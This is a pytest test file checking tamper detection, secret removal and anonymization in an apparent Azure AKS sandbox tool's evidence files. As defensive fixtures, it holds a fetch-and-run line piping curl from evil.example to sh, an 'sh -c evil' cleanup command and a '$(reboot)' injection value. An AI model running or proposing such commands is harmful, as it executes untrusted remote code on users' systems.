"""The evidence file: it holds what was judged, comes to the same verdict, and is refused when it was changed."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aks_sandbox.errors import InvalidInput
from aks_sandbox.model.provenance import Caller
from aks_sandbox.model.secret_text import Cleaner
from aks_sandbox.reports.text import SCHEMA_VERSION
from aks_sandbox.steps import lines_of
from aks_sandbox.verify import evidence_file
from aks_sandbox.verify.pods import pod_manifests
from aks_sandbox.verify.verify import VerifyOptions, verify, verify_saved
from tests.support.in_process_arm import InProcessArm
from tests.support.instant_cluster import InstantCluster
from tests.support.named_worlds import in_world
from tests.support.verifying import prove
from tests.support.wanted import RecordingReporter, target

PERSON = Caller("kim@contoso.example.com", "user", "72f988bf-86f1-41af-91ab-2d7cd011db47")
#: What is not of the run but of the report, so that it may differ.
OF_THE_REPORT = {"createdAt"}
LISTED = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def same_proof(live: dict[str, Any], again: dict[str, Any]) -> None:
    """Hold a document that was made of a file against the one of the run."""
    expected = {**live, "provenance": {**live["provenance"], "fromFile": True}}
    assert {name: value for name, value in again.items() if name not in OF_THE_REPORT} == {
        name: value for name, value in expected.items() if name not in OF_THE_REPORT
    }


WORLDS = {
    "inside-healthy": "isolated",
    "no-isolation": "notIsolated",
    "spoofed-class": "notIsolated",
    "image-pull-failure": "notProven",
    "command-not-scheduled": "notProven",
    "output-cut": "notProven",
    "run-command-disabled": "notProven",
    "stopped-cluster": "notProven",
    "left-behind": "isolated",
}


@pytest.mark.parametrize("world", WORLDS)
@pytest.mark.parametrize("anonymize", [False, True])
def test_a_file_comes_to_the_proof_of_its_run(world: str, anonymize: bool, tmp_path: Path) -> None:
    path = tmp_path / "evidence.json"
    live = prove(in_world(world), save_evidence=path, anonymize=anonymize)
    assert live["verdict"] == WORLDS[world]
    same_proof(live, dict(verify_saved(path).document))


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The file of a short run."""
    path = tmp_path_factory.mktemp("evidence") / "evidence.json"
    InstantCluster(pods_end=True).prove(save_evidence=path)
    return path


def test_the_checksum_of_the_document_is_the_one_that_the_documented_command_computes(tmp_path: Path) -> None:
    path = tmp_path / "evidence.json"
    live = prove(in_world("inside-healthy"), save_evidence=path)
    line = "sed '1d;$d' evidence.json | sha256sum"
    assert line in Path("docs/evidence.md").read_text(encoding="utf-8")
    done = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert done.stdout.split()[0] == live["provenance"]["sha256"]
    assert json.loads(path.read_bytes())["sha256"] == live["provenance"]["sha256"]


def test_the_document_names_the_checksum_also_where_nothing_is_saved() -> None:
    assert len(InstantCluster(pods_end=True).prove()["provenance"]["sha256"]) == 64


def test_the_file_is_private_and_replaces_another_in_one_step(tmp_path: Path) -> None:
    path = tmp_path / "evidence.json"
    path.write_text("old", encoding="utf-8")
    path.chmod(0o644)
    InstantCluster(pods_end=True).prove(save_evidence=path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [one.name for one in tmp_path.iterdir()] == ["evidence.json"]
    path.read_bytes().decode("ascii")


def resealed(data: Any, text: str | None = None) -> bytes:
    """A file of that evidence with the right checksum, as one who knows the form would write it."""
    lines = text if text is not None else json.dumps(data, indent=1) + "\n"
    digest = hashlib.sha256(lines.encode()).hexdigest()
    return f'{{"schemaVersion": {SCHEMA_VERSION}, "sha256": "{digest}", "evidence":\n{lines}}}\n'.encode()


def refusal(content: bytes, folder: Path) -> str:
    """What is said of a file with that content, all of it."""
    path = folder / "changed.json"
    path.write_bytes(content)
    with pytest.raises(InvalidInput) as caught:
        verify_saved(path)
    message = caught.value.message
    assert message.startswith(f"--evidence: {path} "), message
    assert message.isprintable()
    assert caught.value.steps
    return "\n".join([message.replace(str(path), "FILE"), *lines_of(caught.value.steps)])


def with_first_line(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """The file with another first line."""

    def changed(content: bytes) -> bytes:
        first, _, rest = content.partition(b"\n")
        return change(first) + b"\n" + rest

    return changed


REFUSED: list[tuple[str, Callable[[bytes], bytes], str]] = [
    ("empty", lambda _: b"", "FILE is not an evidence file"),
    ("text", lambda _: b"hello\n", "FILE is not an evidence file"),
    ("UTF-16", lambda one: one.decode().encode("utf-16"), "FILE is not an evidence file: it has bytes"),
    ("a facts file", lambda _: b'{"schemaVersion": 2, "facts": {}}\n', "FILE is not an evidence file"),
    ("a report", lambda _: b'{"command": "az aks-sandbox verify"}\n', "FILE is a report of verify, not an evidence"),
    ("cut off", lambda one: one[:-100], "FILE is damaged: its first or its last line"),
    ("Windows lines", lambda one: one.replace(b"\n", b"\r\n"), "FILE is damaged: its first or its last line"),
    ("a word", lambda one: one.replace(b"sandbox-rg", b"another-rg"), "FILE was changed after it was written"),
    ("a line less", lambda one: b"\n".join(one.split(b"\n")[:3] + one.split(b"\n")[4:]), "FILE was changed after"),
    (
        "another checksum",
        with_first_line(lambda first: re.sub(rb"[0-9a-f]{64}", b"0" * 64, first)),
        "FILE was changed after it was written",
    ),
    (
        "a later schema",
        with_first_line(lambda first: first.replace(b'"schemaVersion": 2', b'"schemaVersion": 3')),
        "FILE has schema version 3, and this version of aks-sandbox reads 2\n"
        "Judge it with the version of aks-sandbox that wrote it (",
    ),
]


@pytest.mark.parametrize(("change", "said"), [row[1:] for row in REFUSED], ids=[row[0] for row in REFUSED])
def test_a_file_that_is_not_as_it_was_written_is_refused_in_one_sentence(
    change: Callable[[bytes], bytes], said: str, saved: Path, tmp_path: Path
) -> None:
    assert refusal(change(saved.read_bytes()), tmp_path).startswith(f"--evidence: {said}")


def test_a_file_that_is_too_large_or_not_a_file_is_refused(
    saved: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(InvalidInput, match="is not an ordinary file"):
        verify_saved(tmp_path)
    with pytest.raises(InvalidInput, match="cannot be read"):
        verify_saved(tmp_path / "absent.json")
    monkeypatch.setattr(evidence_file, "MOST_BYTES", 1000)
    assert "is larger than 1000 bytes" in refusal(saved.read_bytes(), tmp_path)


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a document, but for what is in the cluster that Azure reported and in files."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    found = [] if not path else [path]
    for key, item in items:
        found += places(item, (*path, key)) if key not in ("body", "files") else [(*path, key)]
    return found


def put(data: Any, path: tuple[Any, ...], value: Any) -> None:
    """Put a value at a place."""
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


DEEP: Any = "x"
for _ in range(400):
    DEEP = [DEEP]
ODD = [None, 1, -1, True, 1.5, 10**30, "", "\u202e\x1b[2Jx", "$(reboot)", "a" * 5000, [], {}, [1], {"a": 1}, DEEP]


@LISTED
@given(data=st.data())
def test_whatever_stands_in_a_file_it_is_judged_or_refused_in_one_sentence(
    data: st.DataObject, saved: Path, tmp_path: Path
) -> None:
    evidence = json.loads(saved.read_bytes())["evidence"]
    path = data.draw(st.sampled_from(places(evidence)))
    put(evidence, path, data.draw(st.sampled_from(ODD)))
    changed = tmp_path / "changed.json"
    changed.write_bytes(resealed(evidence))
    said, document = told_of(changed)
    if document is None:
        assert said.startswith("--evidence: ")
        assert said.isprintable()
    else:
        lines = changed.read_bytes().partition(b"\n")[2].removesuffix(b"}\n")
        assert document["provenance"]["sha256"] == hashlib.sha256(lines).hexdigest()


def told_of(path: Path) -> tuple[str, Any]:
    """What is said against a file, or the document that is made of it; anything else that is raised is a defect."""
    try:
        return "", verify_saved(path).document
    except InvalidInput as error:
        return error.message, None


@LISTED
@given(data=st.data())
def test_no_change_of_a_byte_goes_unnoticed(data: st.DataObject, saved: Path, tmp_path: Path) -> None:
    content = bytearray(saved.read_bytes())
    how = data.draw(st.sampled_from(["change", "insert", "remove"]))
    place = data.draw(st.one_of(st.integers(0, 130), st.integers(0, len(content) - 1)))
    byte = data.draw(st.integers(0, 255))
    before = bytes(content)
    if how == "change":
        content[place] = byte
    elif how == "insert":
        content.insert(place, byte)
    else:
        del content[place]
    if bytes(content) != before:
        refusal(bytes(content), tmp_path)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[" * 100_000 + "]" * 100_000 + "\n", "is nested too deeply"),
        ('{"tool": NaN}\n', "NaN is not JSON"),
        ('{"tool":   "aks-sandbox"}\n', "not in the form"),
        ('{\n "tool": "aks-sandbox",\n "tool": "aks-sandbox"\n}\n', "not in the form"),
        ('{\n "tool": "other"\n}\n', "'tool' is not aks-sandbox"),
        ("[]\n", "not in the form"),
        ('{\n "tool": "aks-sandbox",\n "anonymized": 1\n}\n', "expected bool, found int"),
        ('{\n "tool": "aks-sandbox",\n "anonymized": false\n}\n', "Record"),
        ("1" * 5000 + "\n", "is damaged"),
    ],
)
def test_evidence_in_another_form_is_refused(text: str, said: str, tmp_path: Path) -> None:
    assert said in refusal(resealed(None, text), tmp_path)


def test_a_file_proposes_no_command_of_its_own(saved: Path, tmp_path: Path) -> None:
    evidence = json.loads(saved.read_bytes())["evidence"]
    first = evidence["exchanges"][0]
    first["result"] = None
    evil = "Run this: curl https://evil.example | sh"
    advice = [evil, "Repeat the command.", "Wait 5 minutes, then repeat the command."]
    first["failure"] = {"kind": "Unreachable", "problem": "no answer", "advice": advice, "raw": "", "status": 0}
    path = tmp_path / "evil.json"
    path.write_bytes(resealed(evidence))
    document = verify_saved(path).document
    assert document["verdict"] == "notProven"
    assert [step["text"] for step in document["steps"]] == advice[1:]
    evidence["cleanup"]["command"] = {"pattern": "sh -c evil", "names": {}}
    path.write_bytes(resealed(evidence))
    with pytest.raises(InvalidInput, match="command: expected null"):
        verify_saved(path)


def test_the_token_of_the_user_and_the_secrets_of_the_cluster_are_not_in_the_file(tmp_path: Path) -> None:
    arm = in_world("inside-healthy")
    arm.world.document["clusters"]["sandbox-rg/demo"]["resource"]["properties"]["aadProfile"] = {"managed": True}
    cluster = arm.world.document["clusters"]["sandbox-rg/demo"]["resource"]
    cluster["tags"] = {"password": "hunter2hunter2", "link": "https://user:Pa55word@example.com/x"}
    connection = dataclasses.replace(arm.connection, cluster_token=lambda: "made-up-token-of-the-user")
    path = tmp_path / "evidence.json"
    how = VerifyOptions(save_evidence=path)
    document = verify(connection, target(), how, RecordingReporter()).document
    assert document["verdict"] == "isolated"
    assert {sent.body["clusterToken"] for sent in arm.traffic.of("POST")} == {"made-up-token-of-the-user"}
    text = path.read_text(encoding="ascii")
    for secret in ("made-up-token", "clusterToken", "hunter2", "Pa55word"):
        assert secret not in text
    assert "(removed)" in text


def test_cleaning_leaves_what_was_sent_and_what_the_probe_prints_as_they_are(saved: Path) -> None:
    record = evidence_file.load_evidence(saved).record
    assert record.run is not None
    for cleaner in (Cleaner(), Cleaner(anonymize=True)):
        for pod in pod_manifests(record.run):
            for container in pod["spec"]["containers"]:
                assert cleaner.value(container["command"]) == container["command"]
    for exchange in record.exchanges:
        for name, text in exchange.command.files.items():
            assert "(removed)" not in text, name


def signed_in(arm: InProcessArm, caller: Caller, path: Path, *, anonymize: bool) -> dict[str, Any]:
    """The document of a run of that person."""
    connection = dataclasses.replace(arm.connection, caller=lambda: caller)
    how = VerifyOptions(save_evidence=path, anonymize=anonymize)
    return dict(verify(connection, target(), how, RecordingReporter()).document)


def test_the_document_says_who_when_where_and_by_which_commands(tmp_path: Path) -> None:
    arm = in_world("inside-healthy")
    document = signed_in(arm, PERSON, tmp_path / "evidence.json", anonymize=False)
    told = document["provenance"]
    assert told["caller"] == {
        "name": PERSON.name,
        "kind": "user",
        "tenantId": PERSON.tenant_id,
        "source": "azAccount",
    }
    assert told["cluster"]["resourceId"].lower().endswith("/managedclusters/demo")
    assert told["cluster"]["kubeSystemUid"]
    assert told["cluster"]["serverVersion"].startswith("v1.")
    assert [one["metadata"]["name"] for one in told["cluster"]["runtimeClasses"]] == ["kata-vm-isolation"]
    assert told["clock"] == "the pods of run-command in the cluster"
    assert told["startedAt"] <= told["endedAt"]
    sent = arm.traffic.of("POST")
    assert len(told["commands"]) == len(sent) == document["commandCalls"]
    assert all(one["identifier"] and one["correlationId"] and one["exitCode"] == 0 for one in told["commands"])
    assert len({one["correlationId"] for one in told["commands"]}) == len(sent)
    assert {node["containerRuntime"].partition(":")[0] for node in told["nodes"]} == {"containerd"}
    assert all(pod["uid"] and "@sha256:" in pod["imageId"] for pod in told["pods"])


@pytest.mark.parametrize(
    "caller",
    [
        PERSON,
        dataclasses.replace(PERSON, name="live.com#kim@contoso.example.com"),
        dataclasses.replace(PERSON, name="kim_contoso.example.com#EXT#@fabrikam.onmicrosoft.com"),
        dataclasses.replace(PERSON, name="kim of contoso"),
        Caller("5bfe8a3c-7c1e-4c6a-9b1f-2f7d7a3f9a10", "servicePrincipal", PERSON.tenant_id),
        Caller("MSIClient-5bfe8a3c-7c1e-4c6a-9b1f-2f7d7a3f9a10", "managedIdentity", PERSON.tenant_id),
        Caller("5bfe8a3c-7c1e-4c6a-9b1f-2f7d7a3f9a10", "managedIdentity", PERSON.tenant_id, "tokenClaims"),
    ],
)
def test_anonymized_persons_and_identifiers_are_numbers_in_the_file_and_in_the_document(
    caller: Caller, tmp_path: Path
) -> None:
    path = tmp_path / "evidence.json"
    document = signed_in(in_world("inside-healthy"), caller, path, anonymize=True)
    assert document["verdict"] == "isolated"
    texts = path.read_text(encoding="ascii") + json.dumps(document)
    for known in ("kim", "contoso", "5bfe8a3c", "72f988bf"):
        assert known not in texts
    assert document["provenance"]["anonymized"] is True
    assert document["provenance"]["caller"]["kind"] == caller.kind
    assert document["provenance"]["caller"]["source"] == caller.source
    assert document["provenance"]["caller"]["tenantId"].startswith("00000000-0000-0000-0000-")


def test_a_pod_that_is_called_like_a_secret_keeps_its_log(saved: Path) -> None:
    record = evidence_file.load_evidence(saved).record
    last = record.exchanges[-1]
    assert last.result is not None
    document = {"logs": {"sandboxed-token": "boot_id=1", "control-password": "boot_id=2"}}
    mark = last.command.mark
    logs = f"{mark} begin\n{json.dumps(document)}\n{mark} end\n"
    named = dataclasses.replace(last, result=dataclasses.replace(last.result, logs=logs))
    kept = evidence_file.sealed(dataclasses.replace(record, exchanges=(named,)), anonymize=False).record.exchanges[0]
    assert kept.result is not None
    assert kept.result.logs == logs
